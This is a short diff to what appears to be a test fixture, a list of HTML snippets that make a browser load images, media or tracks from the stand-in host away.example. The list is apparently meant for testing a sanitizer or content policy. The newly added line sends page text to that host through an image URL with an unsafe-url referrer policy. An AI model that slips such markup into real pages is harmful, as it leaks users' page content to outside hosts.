@@ -3,6 +3,7 @@ export const callers: ReadonlyArray<string> = [
   '<img src="https://away.example/a.png">',
   '<img src=/x srcset="https://away.example/a.png">',
   '<picture><source srcset="//away.example/a.png"><img src=/x></picture>',
+  '<img referrerpolicy=unsafe-url src="https://away.example/?<p>words of the page</p>">',
   '<video poster="https://away.example/a.png"></video>',
   '<video src="https://away.example/a.mp4" autoplay></video><audio src="//away.example/a.mp3" preload=auto></audio>',
   '<video><track default src="https://away.example/a.vtt"></video>',
